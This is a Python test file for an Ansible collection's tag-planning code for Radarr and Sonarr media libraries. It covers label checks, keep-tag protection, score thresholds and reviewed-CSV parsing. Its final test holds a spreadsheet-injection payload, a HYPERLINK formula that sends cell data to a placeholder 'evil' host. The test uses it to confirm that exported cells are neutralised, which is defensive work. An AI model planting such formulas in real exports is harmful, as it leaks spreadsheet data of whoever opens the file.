# Copyright (c) 2026, mediaops.servarr contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Who gains and loses the review tag (pure)."""
import pytest

from ansible_collections.mediaops.servarr.plugins.module_utils.decisions.tag_plan import (
    TagPlanError, check_label, normalise, plan, read_csv, select)

TAG, KEEP = 7, 1


def records():
    return [{"id": 1, "title": "Dune", "tmdbId": 841, "imdbId": "tt0087182", "tags": []},
            {"id": 2, "title": "Dune", "tmdbId": 438631, "tags": [TAG]},
            {"id": 3, "title": "Heat", "tmdbId": 949, "tags": [KEEP, TAG]},
            {"id": 4, "title": "Cats", "tmdbId": 536869, "tags": [TAG]},
            {"id": 5, "title": "Hook", "tmdbId": 879, "tags": [KEEP]}]


def rows(*specs):
    return normalise([dict(instance="radarr", id=i, score=s, tmdb_id=t) for i, s, t in specs])


@pytest.mark.parametrize("label", ["deletion candidate", "tag_1", "", "é", "a/b"])
def test_labels_are_checked_locally(label):
    with pytest.raises(TagPlanError):
        check_label(label)


def test_label_ok():
    assert check_label("deletion-candidate-80") == "deletion-candidate-80"
    # the apps keep labels lower-case and match them so: one rule in both modules (issue 21)
    assert check_label("KEEP", "keep_tag") == "keep" and check_label(" Deletion ") == "deletion"


def test_a_keep_tag_no_instance_has_is_named_with_every_instance_tags():
    from ansible_collections.mediaops.servarr.plugins.module_utils.decisions.tag_plan import missing_keep_tag
    assert missing_keep_tag("keep", {"radarr": {"keep": 1}, "sonarr": {}}) is None
    message = missing_keep_tag("kept", {"radarr": {"keep": 1, "4k": 2}, "sonarr": {}})
    assert "keep_tag 'kept' exists in no instance" in message and "nothing would be protected" in message
    assert "radarr: 4k, keep" in message and "sonarr: no tags" in message


def test_add_only_what_changes_and_never_the_keep_tag():
    chosen = select(rows((1, 90, 841), (2, 85, 438631), (5, 99, 879), (9, 99, None)), 80)["radarr"]
    out = plan(records(), chosen, TAG, KEEP)
    assert [e["id"] for e in out["add"]] == [1]
    assert [e["id"] for e in out["unchanged"]] == [2]
    assert [e["id"] for e in out["kept"]] == [5]
    assert [e["id"] for e in out["missing"]] == [9]
    assert out["remove"] == []


def test_exclusive_removes_the_unlisted_and_the_kept():
    out = plan(records(), select(rows((1, 90, 841)), 80)["radarr"], TAG, KEEP, exclusive=True)
    assert [e["id"] for e in out["add"]] == [1]
    assert sorted(e["id"] for e in out["remove"]) == [2, 3, 4]


def test_below_threshold_and_protected_rows_are_not_selected():
    listed = rows((1, 79.9, 841)) + normalise([{"instance": "radarr", "id": 4, "score": 95, "protected": True}])
    assert select(listed, 80) == {}


def test_ids_must_match_the_row():
    out = plan(records(), select(rows((1, 90, 438631)), 80)["radarr"], TAG, KEEP)
    assert out["add"] == [] and out["mismatch"][0]["reason"] == "tmdbId is 841 in the app, 438631 in the row"


def test_absent_listed_or_everything():
    chosen = select(rows((2, 10, None), (1, 10, None)), 80, ignore_threshold=True)["radarr"]
    out = plan(records(), chosen, TAG, KEEP, state="absent")
    assert [e["id"] for e in out["remove"]] == [2] and [e["id"] for e in out["unchanged"]] == [1]
    out = plan(records(), {}, TAG, KEEP, state="absent", everything=True)
    assert sorted(e["id"] for e in out["remove"]) == [2, 3, 4]
    assert plan(records(), {}, None, KEEP, state="absent", everything=True)["remove"] == []


def test_a_tag_not_yet_created():
    out = plan(records(), select(rows((1, 90, 841), (4, 90, None)), 80)["radarr"], None, KEEP, exclusive=True)
    assert [e["id"] for e in out["add"]] == [1, 4] and out["remove"] == []


def test_reviewed_csv(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("Title,Type,Quality,Size (GB),Score,Reason,Last Watched,IMDB Rating,Available on Indexers,"
                    "Instance,Id,TMDb,TVDB,IMDb\n"
                    "Dune,movie,Bluray-2160p,60.00,80,x,never,4.1,,radarr,1,841,,tt0087182\n"
                    ",,,,,,,,,,,,,\n"
                    "Lost,series,,120.00,50,\"a, b\",2023-11-01,8.3,,sonarr,1,,73739,tt0411008\n")
    found = normalise(read_csv(str(path)), str(path))
    assert [(r["instance"], r["id"], r["score"], r["tmdb_id"], r["tvdb_id"]) for r in found] == \
        [("radarr", 1, 80.0, "841", None), ("sonarr", 1, 50.0, None, "73739")]
    bad = tmp_path / "bad.csv"
    bad.write_text("Title,Score\nDune,80\n")
    with pytest.raises(TagPlanError, match="no column Instance, Id"):
        read_csv(str(bad))
    bad.write_text("Instance,Id,Score\nradarr,one,80\n")
    with pytest.raises(TagPlanError, match="line 2"):
        normalise(read_csv(str(bad)), str(bad))


def test_report_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path):
    """Titles come from TMDb/TVDB: '=HYPERLINK(...)' must reach a spreadsheet as text; the reviewed-CSV round
    trip still tags by instance and id."""
    from ansible_collections.mediaops.servarr.plugins.module_utils.runs.library_run import csv_text
    from ansible_collections.mediaops.servarr.plugins.module_utils.decisions.tag_plan import read_csv
    item = {"title": '=HYPERLINK("http://evil/"&A1,"x")', "kind": "movie", "quality": "1080p", "size": 10 ** 9,
            "score": 90, "reason": "+never watched", "last_watched": None, "rating": 4.0, "indexer_releases": None,
            "instance": "radarr", "id": 7, "tmdb": 1, "tvdb": None, "imdb": "@tt1"}
    text = csv_text([item])
    path = tmp_path / "r.csv"
    path.write_text(text)
    import csv
    rows = list(csv.reader(text.splitlines()))
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in rows[1])
    assert rows[1][0].startswith("'=HYPERLINK")
    back = read_csv(str(path))
    assert back[0]["instance"] == "radarr" and back[0]["id"] == "7"
    assert back[0]["title"] == item["title"]
